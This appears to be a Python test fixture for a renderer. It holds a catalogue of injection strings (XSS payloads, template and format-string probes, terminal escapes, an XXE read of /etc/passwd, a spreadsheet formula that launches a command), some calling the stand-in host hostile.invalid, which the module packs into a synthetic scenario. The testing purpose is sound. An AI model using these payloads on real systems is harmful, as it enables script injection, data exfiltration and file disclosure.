"""More than a hundred strings that a careless page, picture, table or terminal would obey instead of show.

A script among them would set `window.hostile`, open a dialog, or ask for something under REACH; none may.
"""

REACH = "https://hostile.invalid/"
RUN = "window.hostile=1"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT\t>",
    f"<script src={REACH}a.js></script>",
    "<script src=//hostile.invalid/b.js>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script><![CDATA[",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<script\x00>{RUN}</script>",
    f"<script\x0c>{RUN}</script>",
    f"<script/x>{RUN}</script>",
    f"<script type=module>import '{REACH}m.js'</script>",
    f"<script>fetch('{REACH}f')</script>",
    "<script>alert(1)</script>",
    "<script>location='https://hostile.invalid/l'</script>",
    f"＜script＞{RUN}＜/script＞",
    "&LT;script&GT;window.hostile=1",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{RUN}",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
]
ELEMENTS = [
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f"<img src='{REACH}pixel.png'>",
    f"<img srcset='{REACH}set.png 2x'>",
    f"<img/src=x/onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='{REACH}sprite.svg#a'></svg>",
    f"<svg><image href='{REACH}image.png'/></svg>",
    f"<svg><foreignObject><iframe src='{REACH}'></iframe></foreignObject></svg>",
    f"</svg><img src=x onerror={RUN}>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>",
    f"<iframe src='{REACH}frame'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<object data='{REACH}o.swf'></object>",
    f"<embed src='{REACH}e.swf'>",
    "<applet code=x>",
    f"<video><source onerror={RUN}></video>",
    f"<video src='{REACH}v.mp4' autoplay poster='{REACH}p.png'></video>",
    f"<audio src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<body background='{REACH}bg.png'>",
    f"<table background='{REACH}t.png'>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<form action='{REACH}form'><button>press</button></form>",
    f"<button formaction='javascript:{RUN}'>press</button>",
    f"<a href='javascript:{RUN}'>press</a>",
    f"<a href='{REACH}' ping='{REACH}ping'>press</a>",
    f"<base href='{REACH}'>",
    f"<link rel=stylesheet href='{REACH}s.css'>",
    f"<link rel=preload as=image href='{REACH}pre.png'>",
    f"<link rel=dns-prefetch href='{REACH}'>",
    f"<meta http-equiv=refresh content='0;url={REACH}'>",
    "<meta http-equiv=content-security-policy content=\"script-src *\">",
    f"<style>@import '{REACH}i.css';</style>",
    f"<style>*{{background:url({REACH}u.png)}}</style>",
    f"<div style='background:url({REACH}d.png)'>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<isindex type=image src=x onerror={RUN}>",
    f"<xss id=x tabindex=1 onfocus={RUN}></xss>",
    "<form id=x><input name=attributes><input name=nodeName></form>",
    "<a id=document name=cookie>clobbered</a>",
    "<plaintext>",
    "<xmp>",
    "<!--",
    "<![CDATA[",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<?xml version='1.0'?><?php echo 1 ?>",
]
ATTRIBUTES = [
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" autofocus onfocus={RUN} x="',
    f'x" style="background:url({REACH}q.png)',
    f"` onmouseover=`{RUN}",
    f"javascript:{RUN}",
    f"java\tscript:{RUN}",
    f" javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    "#claim-1",
    f"{REACH}?plain-address",
    "url(#x);fill:url(https://hostile.invalid/fill)",
    "}</style><style>*{color:red",
    f"*/ @import '{REACH}c.css'; /*",
    "expression(window.hostile=1)",
]
TEMPLATES = [
    "{{ 7 * 7 }}",
    "{{ ''.__class__.__mro__ }}",
    "{% raw %}",
    "{% include 'brief.html.j2' %}",
    "{# comment #}",
    "${window.hostile=1}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "%s%n%x%d",
    "{0.__class__}",
    "`;window.hostile=1//",
    "\\",
    "\\\"",
    "';window.hostile=1//",
    "\");window.hostile=1//",
    "$\\frac{1}{0}$",
    "$\\input{/etc/passwd}$",
    "\\textbf{x}_{y}^{z}",
]
TERMINALS = [
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;a title\x07",
    "\x1b]8;;https://hostile.invalid/\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;aG9zdGlsZQ==\x07",
    "\x1bP1;1|17/ab\x1b\\",
    "\x1b[6n\x1b[c",
    "\x1b[?1049h",
    "\x9b31m\x9d0;x\x9c",
    "\x08\x08\x08overwritten",
    "one\rtwo",
    "one\ntwo\n\nthree",
    "bell\x07",
    "\x00nul",
    "\x7fdelete",
    "[bold red]markup[/bold red]",
    "[link=https://hostile.invalid/]rich[/link]",
    "[/]",
    ":smile: :warning:",
    "left\u202eright",
    "\u2066isolated\u2069\u2067",
    "\u200b\u200d\ufeff",
    "line\u2028separator\u2029",
    "a" * 400,
    "a " * 200,
    "\u0301" * 60,
    "👩‍👩‍👧‍👦🕊️🇪🇬",
    "المملكة الأردنية",
    "=cmd|'/c calc'!A1",
    "-- ; drop table",
]

STRINGS = SCRIPTS + ELEMENTS + ATTRIBUTES + TEMPLATES + TERMINALS

ACTORS, CLAIMS = 14, 12


def hostile_scenario(first):
    """A scenario with the strings from `first` on, round and round, wherever the format takes any text.

    Every number has reasons, every event and actor a name; no two texts of it are the same string until all have been used.
    """
    used = iter(range(first, first + 10_000))

    def text():
        return STRINGS[next(used) % len(STRINGS)]

    def shown():
        """Not only of blanks and what is not shown: the format wants some titles."""
        return text() + "."

    def reasons():
        return {"claims": [f"c{next(used) % CLAIMS}"], "note": text()}

    ids = [f"A{k}" for k in range(ACTORS)]
    actors = {
        id: {
            "name": text(),
            "note": text(),
            "groups": ["half"] if number % 2 else [],
            "joins": {"chance": [{"when": f"vote and {ids[number - 1]}", "chance": 0.9, **reasons()}, {"chance": 0.8}], **reasons()},
            "leads": {"chance": 0.6, **reasons()},
            "offers": {"troops": {"amount": [10, 20, 90], **reasons()}},
            "accepts": {"half": {"chance": 0.9, **reasons()}},
            "positions": {"arms": {"ideal": 0.5 + number / 100, "tolerance": 0.4, **reasons()}, "zone": {"ideal": 0.5, "tolerance": 0.3}},
        }
        for number, id in enumerate(ids)
    }
    actors["GATE"] = {"name": text(), "gatekeeper": True, "accepts": {"A1": {"chance": 0.2, **reasons()}}, **reasons()}
    hedges = [shown()[:60] for _ in range(CLAIMS)]
    ways = [shown()[:60] for _ in range(3)]
    actors["A0"]["joins"] = {"claims": [f"c{k}" for k in range(8)], "base": 0.3, "times": 0.9, "note": text()}
    address = [part for part in STRINGS if part.isprintable()]
    return {
        "contingent": 1,
        "title": shown(),
        "question": text(),
        "as_of": "2030-01-01",
        "note": text(),
        "$schema": shown(),
        "horizon": "2030-06-30",
        "lexicon": {
            "hedges": {
                hedge: {"kind": "offer"} if number % 2 else {"chance": 0.5 + number / 50, "sd": 0.1, "from": text()}
                for number, hedge in enumerate(hedges)
            },
            "attribution": {way: 0.8 for way in ways},
        },
        "sources": {
            f"s{k}": {
                "publisher": shown(),
                "title": text(),
                "date": "2029-12-05",
                "url": "https://hostile.invalid/" + address[(first + k) % len(address)].replace(" ", "%20"),
                "reliability": "B",
                "note": text(),
            }
            for k in range(CLAIMS)
        },
        "claims": {
            f"c{k}": {
                "source": f"s{k}", "speaker": text(), "origin": text(), "date": f"2029-12-{10 + k}", "says": shown(), "note": text(),
                "hedge": hedges[k], "attribution": ways[k % len(ways)],
            }
            for k in range(CLAIMS)
        },
        "events": {"vote": {"title": text(), "chance": 0.9, **reasons()}, "truce": {"title": text(), "chance": 0.5, **reasons()}},
        "issues": {"arms": {"title": text(), "low": text(), "high": text(), "note": text()}, "zone": {"title": text()}},
        "actors": actors,
        "pools": {"others": {"title": text(), "size": 2, "joins": 0.2, **reasons()}},
        "requirements": {
            "size": {"title": text(), "at_least": 40, "of": "troops", **reasons()},
            "some": {"title": text(), "at_least": 2, "of": "members", "from": "half"},
            "vote": {"title": text(), "when": "vote or truce"},
            "led": {"title": text(), "lead": True},
        },
        "prefer": "troops",
        "outcomes": {"A0": {"joined": True, **reasons()}, "A1": {"joined": False, **reasons()}},
    }  # fmt: skip
